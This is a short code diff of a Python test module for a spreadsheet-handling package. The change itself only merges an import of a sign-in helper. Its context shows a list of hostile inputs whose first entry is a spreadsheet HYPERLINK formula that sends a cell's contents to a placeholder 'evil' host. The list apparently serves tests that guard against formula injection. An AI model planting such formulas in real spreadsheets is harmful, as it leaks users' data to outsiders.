@@ -21,8 +21,7 @@ from gridgov.data.sheets import framework
 from gridgov.data.sheets.framework import RowError, template_workbook, workbook
 from tests.data.sheets.importers import DEPARTMENTS
 from tests.data.sheets.test_framework import HEADER, ctx
-from tests.factories import MONDAY_0900, TownWorld
-from tests.ui.web.helpers import signed_in
+from tests.factories import MONDAY_0900, TownWorld, signed_in
 
 HOSTILE = [
     '=HYPERLINK("http://evil/?x="&A1,"点击")',
